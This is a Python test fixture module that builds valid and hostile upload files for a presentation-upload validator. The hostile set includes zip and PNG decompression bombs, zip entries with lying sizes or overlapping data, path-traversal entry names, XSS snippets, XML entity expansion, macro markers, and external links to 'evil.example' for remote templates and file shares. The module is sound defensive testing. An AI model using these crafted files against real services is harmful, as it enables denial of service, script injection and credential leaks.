"""Files that people send: good ones that other programs open too, and hostile ones. Every builder gives the bytes."""

import io
import re
import struct
import zipfile
import zlib

from PIL import Image
from werkzeug.datastructures import FileStorage

from tests.factories_files import a_pdf

PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
ODP_TYPE = "application/vnd.oasis.opendocument.presentation"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"

__all__ = [
    "a_bomb", "a_jpeg", "a_lying_pptx", "a_macro_pptx", "a_pdf", "a_png", "a_pptx", "a_zip", "an_encrypted_pptx", "an_odp", "an_svg",
    "an_upload", "the_hostile",
]  # fmt: skip


def an_upload(data, name="dia's.pdf", media_type="application/octet-stream"):
    """The bytes as the file of a form, for a test client: `data={"file": an_upload(...)}`."""
    return FileStorage(io.BytesIO(data), filename=name, content_type=media_type)


def a_zip(entries, stored=()):
    """A zip of these (name, content) pairs, in this order; those in `stored` are not squeezed."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            squeeze = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, (2026, 6, 16, 10, 0, 0)), content, squeeze)
    return made.getvalue()


def a_pptx(slides=2, *, thumbnail=None, more=(), main_type=PPTX_MAIN, relations=""):
    """A presentation of so many slides. `more` are further (name, content) pairs, `relations` XML in its relations."""
    numbers = range(1, slides + 1)
    part = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"
    types = "".join(f'<Override PartName="/ppt/slides/slide{n}.xml" ContentType="{part}"/>' for n in numbers)
    of_slides = "".join(
        f'<Relationship Id="s{n}" Type="{OFFICE}/slide" Target="slides/slide{n}.xml"/>' for n in numbers
    )
    entries = [
        (
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/><Default Extension="jpeg" ContentType="image/jpeg"/>'
            f'<Override PartName="/ppt/presentation.xml" ContentType="{main_type}"/>{types}</Types>',
        ),
        (
            "_rels/.rels",
            f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" '
            'Target="ppt/presentation.xml"/></Relationships>',
        ),
        (
            "ppt/presentation.xml",
            '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
        ),
        ("ppt/_rels/presentation.xml.rels", f'<Relationships xmlns="{RELS}">{of_slides}{relations}</Relationships>'),
        *((f"ppt/slides/slide{n}.xml", f"<slide>{n}</slide>") for n in numbers),
        *([("docProps/thumbnail.jpeg", thumbnail)] if thumbnail else []),
        *more,
    ]
    return a_zip(entries)


def an_odp(slides=2, *, thumbnail=None, more=(), media_type=ODP_TYPE, content=None, manifest=None):
    """An OpenDocument presentation of so many slides: its media type first and not squeezed."""
    office = "urn:oasis:names:tc:opendocument:xmlns"
    pages = "".join(f'<draw:page draw:name="dia {n}"/>' for n in range(1, slides + 1))
    entries = [
        ("mimetype", media_type),
        (
            "META-INF/manifest.xml",
            manifest
            or f'<manifest:manifest xmlns:manifest="{office}:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
            f'manifest:media-type="{media_type}"/></manifest:manifest>',
        ),
        (
            "content.xml",
            content
            or f'<office:document-content xmlns:office="{office}:office:1.0" xmlns:draw="{office}:drawing:1.0">'
            f"<office:body><office:presentation>{pages}</office:presentation></office:body></office:document-content>",
        ),
        *([("Thumbnails/thumbnail.png", thumbnail)] if thumbnail else []),
        *more,
    ]
    return a_zip(entries, stored=("mimetype",))


def a_png(width=400, height=300, colour=(12, 120, 90)):
    return _picture(width, height, colour, "PNG")


def a_jpeg(width=400, height=300, colour=(12, 120, 90), *, turned=None, with_place=False):
    """A photograph; `turned` is its EXIF orientation (6: held upright), `with_place` puts GPS and a maker's note in it."""
    exif = Image.Exif()
    if turned:
        exif[0x0112] = turned
    if with_place:
        exif[0x010F] = "CanaryCamera"
        exif[0x8825] = {1: "N", 2: (50.0, 50.0, 48.0), 3: "E", 4: (4.0, 21.0, 0.0)}
    return _picture(width, height, colour, "JPEG", exif=exif)


def _picture(width, height, colour, kind, **more):
    """Left half in this colour, right half white, a red corner at the top left: what is cut or turned shows."""
    picture = Image.new("RGB", (width, height), "white")
    picture.paste(colour, (0, 0, width // 2, height))
    picture.paste((220, 0, 0), (0, 0, width // 4, height // 4))
    made = io.BytesIO()
    picture.save(made, kind, **more)
    return made.getvalue()


def a_vast_png(side=60_000):
    """A few hundred kilobytes that would become a picture of gigabytes."""
    row = b"\0" * (1 + side // 8)
    squeeze = zlib.compressobj(9)
    body = b"".join(squeeze.compress(row) for _row in range(side)) + squeeze.flush()
    made = b"\x89PNG\r\n\x1a\n"
    for kind, data in (
        (b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)),
        (b"IDAT", body),
        (b"IEND", b""),
    ):
        made += struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return made


def an_svg():
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def a_page():
    return b"<!doctype html><title>x</title><script>alert(1)</script>"


def a_bomb(megabytes=200):
    """A presentation of some 200 kB that declares, and really holds, hundreds of megabytes."""
    return a_pptx(more=[("ppt/media/image1.bin", b"\0" * (megabytes * 1024 * 1024))])


def a_lying_pptx():
    """An entry that says it holds ten bytes and holds 20 MB."""
    content = b"\0" * 20_000_000
    made = a_pptx(more=[("ppt/media/image1.bin", content)])
    return made.replace(struct.pack("<I", len(content)), struct.pack("<I", 10))


def a_bragging_pptx():
    """An entry that says it holds a thousand bytes more than it does."""
    content = bytes(range(256)) * 300
    made = a_pptx(more=[("ppt/media/image1.bin", content)])
    return made.replace(struct.pack("<I", len(content)), struct.pack("<I", len(content) + 1000))


def an_encrypted_pptx():
    """Every entry is marked as encrypted."""
    made = bytearray(a_pptx())
    for found in re.finditer(b"PK\x03\x04|PK\x01\x02", bytes(made)):
        made[found.start() + (6 if made[found.start() + 2] == 3 else 8)] |= 1
    return bytes(made)


def an_overlapping_pptx():
    """Two entries of the table of contents point at the same bytes: how a small file becomes a large one without a high ratio."""
    made = a_pptx(more=[("ppt/media/image1.bin", b"a" * 5000), ("ppt/media/image2.bin", b"a" * 5000)])
    table = made.rindex(b"ppt/media/image2.bin") - 46
    first = made.index(b"ppt/media/image1.bin") - 30
    changed = bytearray(made)
    changed[table + 42 : table + 46] = struct.pack("<I", first)
    return bytes(changed)


def a_macro_pptx():
    return a_pptx(more=[("ppt/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 macros")])


def a_workbook(more=()):
    """A workbook as PowerPoint puts it beside a chart."""
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/></Types>'
    )
    return a_zip([("[Content_Types].xml", types), ("xl/workbook.xml", "<workbook/>"), *more])


def an_old_office_file(*words):
    """The first bytes of a compound file, as old Office and password-protected files are, with these stream names."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"".join(word.encode("utf-16-le") for word in words)


def a_linking_pptx(kind, target):
    """A presentation with one relation of this kind to a target outside it."""
    link = f'<Relationship Id="x1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return a_pptx(relations=link)


_ENTITIES = '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'


def the_hostile():
    """Name of what it is → (file name, bytes): each has to be refused everywhere."""
    zipped = a_zip([("a.txt", "a" * 100)])
    pdf, pptx = a_pdf(), a_pptx()
    return {
        "nothing at all": ("a.pdf", b""),
        "an HTML page renamed .pdf": ("a.pdf", a_page()),
        "an SVG renamed .pdf": ("a.pdf", an_svg()),
        "an SVG": ("a.svg", an_svg()),
        "a program": ("a.exe", b"MZ" + b"\0" * 200),
        "a name without an ending": ("pdf", pdf),
        "two endings": ("a.pdf.html", pdf),
        "a PDF renamed .pptx": ("a.pptx", pdf),
        "a PPTX renamed .pdf": ("a.pdf", pptx),
        "a PPTX renamed .odp": ("a.odp", pptx),
        "an ODP renamed .pptx": ("a.pptx", an_odp()),
        "HTML before a PDF": ("a.pdf", a_page() + pdf),
        "HTML inside the first bytes of a PDF": ("a.pdf", pdf[:9] + b"%<script>alert(1)</script>\n" + pdf[9:]),
        "a zip before a PDF": ("a.pdf", zipped + pdf),
        "a zip after a PDF": ("a.pdf", pdf + zipped),
        "a zip after a PDF that ends as one": ("a.pdf", pdf + zipped + b"\n%%EOF\n"),
        "half a PDF": ("a.pdf", pdf[: len(pdf) // 2]),
        "a zip of anything, renamed": ("a.pptx", zipped),
        "a PDF before a PPTX": ("a.pptx", pdf + pptx),
        "HTML after a PPTX": ("a.pptx", pptx + a_page()),
        "half a PPTX": ("a.pptx", pptx[: len(pptx) // 2]),
        "a bomb": ("a.pptx", a_bomb(30)),
        "a size that lies downward": ("a.pptx", a_lying_pptx()),
        "a size that lies upward": ("a.pptx", a_bragging_pptx()),
        "entries over each other": ("a.pptx", an_overlapping_pptx()),
        "too many entries": ("a.pptx", a_pptx(more=[(f"ppt/media/{n}", "") for n in range(2000)])),
        "a zip in it": ("a.pptx", a_pptx(more=[("ppt/media/more.zip", zipped)])),
        "a zip in it, named as a picture": ("a.pptx", a_pptx(more=[("ppt/media/image1.png", zipped)])),
        "a presentation in it, in another place": ("a.pptx", a_pptx(more=[("ppt/media/a.pptx", pptx)])),
        "a workbook with a workbook in it": (
            "a.pptx",
            a_pptx(more=[("ppt/embeddings/a.xlsx", a_workbook([("xl/embeddings/b.xlsx", a_workbook())]))]),
        ),
        "a workbook with macros in it": (
            "a.pptx",
            a_pptx(more=[("ppt/embeddings/a.xlsx", a_workbook([("xl/vbaProject.bin", "x")]))]),
        ),
        "a gzip in it": ("a.odp", an_odp(more=[("Pictures/1.png", b"\x1f\x8b\x08" + b"\0" * 50)])),
        "passwords": ("a.pptx", an_encrypted_pptx()),
        "a password on an ODP": (
            "a.odp",
            an_odp(manifest='<m:manifest xmlns:m="urn:x"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>'),
        ),
        "a password as Office sets it": ("a.pptx", an_old_office_file("EncryptedPackage")),
        "macros": ("a.pptx", a_macro_pptx()),
        "macros under another name": ("a.pptx", a_pptx(more=[("ppt/media/a.bin", an_old_office_file("_VBA_PROJECT"))])),
        "a program packed in it": ("a.pptx", a_pptx(more=[("ppt/embeddings/a.bin", an_old_office_file("\x01Ole10Native"))])),
        "a presentation with macros, renamed": (
            "a.pptx",
            a_pptx(main_type="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
        ),
        "controls that run": ("a.pptx", a_pptx(more=[("ppt/activeX/activeX1.xml", "<x/>")])),
        "Basic in an ODP": ("a.odp", an_odp(more=[("Basic/Standard/Module1.xml", "<x/>")])),
        "a script in an ODP": ("a.odp", an_odp(more=[("Scripts/python/a.py", "print()")])),
        "Basic in an object of an ODP": ("a.odp", an_odp(more=[("Object 1/Basic/Standard/Module1.xml", "<x/>")])),
        "the media type of an ODP, not exact": ("a.odp", an_odp(media_type=ODP_TYPE + "\n")),
        "the media type of a text document": ("a.odp", an_odp(media_type="application/vnd.oasis.opendocument.text")),
        "a name that climbs": ("a.pptx", a_pptx(more=[("../../etc/passwd", "x")])),
        "a name that climbs by backslashes": ("a.pptx", a_pptx(more=[("ppt\\..\\..\\a", "x")])),
        "an absolute name": ("a.pptx", a_pptx(more=[("/etc/passwd", "x")])),
        "a name with a drive": ("a.pptx", a_pptx(more=[("C:/a", "x")])),
        "entities in the table of contents": (
            "a.pptx",
            a_zip([("[Content_Types].xml", f"{_ENTITIES}<Types>&b;</Types>"), ("ppt/presentation.xml", "<x/>")]),
        ),
        "a template from elsewhere": ("a.pptx", a_linking_pptx("attachedTemplate", "https://evil.example/a.potm")),
        "an object from elsewhere": ("a.pptx", a_linking_pptx("oleObject", "https://evil.example/a.xlsx")),
        "an object from elsewhere, in capitals": (
            "a.pptx",
            a_pptx(more=[("ppt/slides/_rels/slide1.xml.RELS", f'<R><Relationship Type="{OFFICE}/oleObject" '
            'Target="https://evil.example/a.xlsx" TargetMode="External"/></R>')]),
        ),
        "a picture on somebody's server share": ("a.pptx", a_linking_pptx("image", "file://evil.example/share/a.png")),
        "a link that runs": ("a.pptx", a_linking_pptx("hyperlink", "javascript:alert(1)")),
    }  # fmt: skip
